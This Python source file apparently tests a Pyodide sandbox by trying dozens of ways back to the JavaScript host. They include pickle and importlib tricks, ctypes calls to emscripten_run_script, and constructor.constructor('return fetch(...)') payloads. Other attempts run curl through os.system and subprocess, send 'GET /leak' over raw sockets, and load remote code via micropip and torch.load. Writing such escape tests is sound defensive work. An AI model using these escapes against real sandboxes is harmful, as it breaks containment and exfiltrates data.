"""Ways back to JavaScript from the Python that was shut, and what each is used for.

The one rule: a way gives `use` what it found of JavaScript, does what would be seen
outside, or raises.
"""

WAYS = {
    "import js": "import js; use(js)",
    "import by __import__": "use(__import__('pyodide_js'))",
    "import by importlib": "import importlib; use(importlib.import_module('js'))",
    "import by a compiled tree": (
        "import ast; exec(compile(ast.parse('import js'), 'a', 'exec')); use(js)"
    ),
    "import by pickle": "import pickle; use(pickle.loads(b'cjs\\nfetch\\n.'))",
    "import inside the engine": (
        "import gdcore.runs as m; exec('import js', vars(m)); use(m.js)"
    ),
    "import by the stand-in's builtins": (
        "import torch; f = torch.nn.Module.__init__.__globals__; "
        "use(f['__builtins__']['__import__']('js'))"
    ),
    "sys.modules": (
        "import sys; many(m for n, m in list(sys.modules.items()) "
        "if n.split('.')[0] in ('js', 'pyodide_js'))"
    ),
    "the finder of js": (
        "import sys; many(p for f in sys.meta_path "
        "for p in getattr(f, 'jsproxies', {}).values())"
    ),
    "a finder put back": (
        "import sys, _pyodide._importhook as h; sys.meta_path.append(h.JsFinder()); "
        "sys.meta_path.append(h.jsfinder); import js; use(js)"
    ),
    "js registered anew": (
        "import _pyodide._importhook as h; from pyodide.ffi import to_js; "
        "h.register_js_module('js', to_js({'a': 1})); import js; use(js)"
    ),
    "pyodide reloaded": (
        "import importlib, pyodide, pyodide.ffi; importlib.reload(pyodide.ffi); "
        "importlib.reload(pyodide); use(pyodide.ffi.to_js([1]))"
    ),
    "the core of pyodide": (
        "import _pyodide_core as c; many(vars(c).values()); use(c.to_js([1]))"
    ),
    "run_js": "from pyodide.code import run_js; use(run_js('self'))",
    "a proxy of a list": "from pyodide.ffi import to_js; use(to_js([1]))",
    "a proxy of a function": (
        "from pyodide.ffi import create_proxy; use(create_proxy(lambda: 1))"
    ),
    "a proxy called once": (
        "from pyodide.ffi import create_once_callable as c; use(c(lambda: 1))"
    ),
    "the error of a proxy": (
        "from pyodide.ffi import to_js\n"
        "try: to_js([1]).at.call(None)\n"
        "except Exception as error: use(error.js_error)"
    ),
    "run_sync": (
        "from pyodide.ffi import run_sync; import asyncio; "
        "use(run_sync(asyncio.sleep(0)))"
    ),
    "the loop's timers": (
        "from pyodide.webloop import WebLoop; import pyodide.webloop as w; "
        "many(vars(w).values()); use(w.scheduleCallback)"
    ),
    "the loop's globals": (
        "import asyncio; loop = asyncio.get_event_loop(); "
        "many(type(loop).call_later.__globals__.values()); raise LookupError"
    ),
    "a task that outlives the run": (
        "import asyncio\n"
        "async def later():\n    await asyncio.sleep(0)\n    import js\n    use(js)\n"
        "kept.append(asyncio.ensure_future(later()))"
    ),
    "a connection of asyncio": (
        "import asyncio; kept.append(asyncio.ensure_future("
        "asyncio.open_connection(HOST, PORT)))"
    ),
    "the garbage collector": (
        "import gc; many(o for o in gc.get_objects() "
        "if type(o).__name__ in ('JsProxy', 'JsDoubleProxy', 'JsCallable', 'JsBuffer'))"
    ),
    "frames of those who call": (
        "import sys; frame = sys._getframe()\n"
        "while frame:\n"
        "    many([*frame.f_locals.values(), *frame.f_globals.values()])\n"
        "    frame = frame.f_back\n"
        "raise LookupError"
    ),
    "settrace": (
        "import sys\n"
        "def spy(frame, event, given):\n    many(frame.f_locals.values())\n"
        "    return spy\n"
        "kept.append(spy)\nsys.settrace(spy)\nsys.setprofile(spy)\n"
        "try:\n    json.dumps({})\nfinally:\n"
        "    sys.settrace(None)\n    sys.setprofile(None)\nraise LookupError"
    ),
    "a warning's hook": (
        "import warnings, sys\n"
        "warnings.showwarning = lambda *_: many(sys._getframe(1).f_locals.values())\n"
        "warnings.warn('look')\nraise LookupError"
    ),
    "a finalizer": (
        "class Last:\n    def __del__(self):\n        import js\n        use(js)\n"
        "kept.append(Last()); import atexit; "
        "atexit.register(lambda: use(__import__('js')))"
    ),
    "hooks of the interpreter": (
        "import sys\n"
        "sys.excepthook = sys.displayhook = lambda *_: use(__import__('js'))\n"
        "sys.unraisablehook = sys.excepthook; sys.displayhook(1)"
    ),
    "the first stdout": (
        "import sys; s = sys.__stdout__; s.write('leak'); s.flush(); "
        "use(s.buffer.raw.write.js)"
    ),
    "shared objects": (
        "import _imp, sys; from importlib.machinery import ExtensionFileLoader as L, "
        "ModuleSpec; open('/tmp/a.so', 'wb').write(b'\\0asm\\1\\0\\0\\0'); "
        "got(_imp.create_dynamic(ModuleSpec('a', L('a', '/tmp/a.so'), "
        "origin='/tmp/a.so')))"
    ),
    "a shell": "import os; assert os.system(f'curl {url}') == 0; got('shell')",
    "a process": "import subprocess as s; s.run(['curl', url], check=True); got('ran')",
    "another process": "import os; os.fork() or got('forked'); got('forked')",
    "a thread": (
        "import threading as t; one = t.Thread(target=lambda: got('ran')); one.start()"
    ),
    "a raw socket": (
        "import _socket; s = _socket.socket(); s.connect((HOST, PORT)); "
        "s.send(b'GET /leak/raw HTTP/1.0\\r\\n\\r\\n'); got(s.recv(9))"
    ),
    "numpy's data source": (
        "from numpy.lib.npyio import DataSource; "
        "got(DataSource('/tmp').open(url).read())"
    ),
    "numpy's loadtxt": "import numpy as np; got(np.loadtxt(url))",
    "numpy's load of a pickle": (
        "import numpy as np; open('/tmp/a.npy', 'wb').write(b'cjs\\nfetch\\n.'); "
        "use(np.load('/tmp/a.npy', allow_pickle=True))"
    ),
    "the stand-in's hub": (
        "import torch; got(torch.hub.load_state_dict_from_url(url))"
    ),
    "the stand-in's load": "import torch; got(torch.load(url))",
    "a path of modules": (
        "import sys, importlib; sys.path.insert(0, url); "
        "importlib.invalidate_caches(); import from_the_network; got('module')"
    ),
    "a zip of modules": "import zipimport; got(zipimport.zipimporter(url))",
    "a package installed": "import micropip; got(micropip.install(url))",
    "a browser": "import webbrowser; assert webbrowser.open(url); got('opened')",
    "a logger": (
        "import logging.handlers as h; one = h.HTTPHandler(f'{HOST}:{PORT}', '/leak'); "
        "one.getConnection(f'{HOST}:{PORT}', False).request('GET', '/leak/log'); "
        "got('logged')"
    ),
    "devices": (
        "import os; usual = (*USUAL, 'std')\n"
        "found = [p for p in os.listdir('/dev') if not p.startswith(usual)]\n"
        "assert found; got(found)"
    ),
    "a mounted disk": (
        "import os; found = [l for l in open('/proc/mounts') if 'IDBFS' in l]; "
        "assert found; got(found)"
    ),
    "the recorder": (
        "mark = __builtins__['__loop__']; many(vars(mark).values()); "
        "use(__builtins__['__names__']()['js'])"
    ),
    "input of before": "import builtins; got(builtins.input('?'))",
    "answers of another": (
        "import scripts.engine.wire as w; w.ask = w.packed = None; raise LookupError"
    ),
}
# These end Python, so each is tried alone.
ENDING = {
    "ctypes": (
        "import ctypes; run = ctypes.CDLL(None).emscripten_run_script; "
        "run(f'fetch({url!r})'.encode()); got('ran')"
    ),
    "ctypes that asks for an answer": (
        "import ctypes; run = ctypes.CDLL(None).emscripten_run_script_int; "
        "run(f'importScripts({url!r})'.encode()); got('ran')"
    ),
}
USES = (
    "h.fetch(url)",
    "h.fetch.call(None, url)",
    "h.constructor.constructor('return fetch(\"' + url + '\")')()",
    "h.constructor.constructor('return self')().fetch(url)",
    "h.constructor.new('return self')()",
    "h.__proto__.constructor.constructor('return self')()",
    "h.valueOf.call(None).fetch(url)",
    "h.self.fetch(url)",
    "h.eval('fetch(\"' + url + '\")')",
    "h.importScripts(url)",
    "h.Worker.new(url)",
    "h.WebSocket.new(url.replace('http', 'ws'))",
    "h.navigator.sendBeacon(url)",
    "h.indexedDB.open('leak')",
    "h.localStorage.setItem('leak', '1')",
    "h.BroadcastChannel.new('gd').postMessage('leak')",
    "h.postMessage('leak')",
    "h.parent.postMessage('leak', '*')",
    "h.target.ownerDocument.defaultView.fetch(url)",
)
PROGRAM = """
import json
ADDRESS, HOST, PORT, WAYS, USES, USUAL = GIVEN
leaks, ends, kept = [], {}, []
def attempt(name, line):
    url = ADDRESS + name.replace(' ', '-')
    def got(value): leaks.append(f'{name}: {value!r}'[:200])
    def use(h):
        for way in USES:
            try:
                exec(way, {'h': h, 'url': url + '-used'})
            except BaseException:
                pass
        ends[name] = f'used {type(h).__name__}'
    def many(values):
        for value in list(values):
            if type(value).__module__.split('.')[0] in ('_pyodide', 'pyodide'):
                use(value)
            elif type(value).__name__.startswith('Js'):
                use(value)
    try:
        exec(line, {**globals(), **locals()})
        ends.setdefault(name, 'nothing found')
    except BaseException as error:
        ends.setdefault(name, f'{type(error).__name__}: {error}'[:80])
for name, line in WAYS.items():
    attempt(name, line)
print('\\n' + json.dumps([leaks, ends]))
"""
USUAL = ("null", "tty", "tty1", "random", "urandom", "shm", "fd")
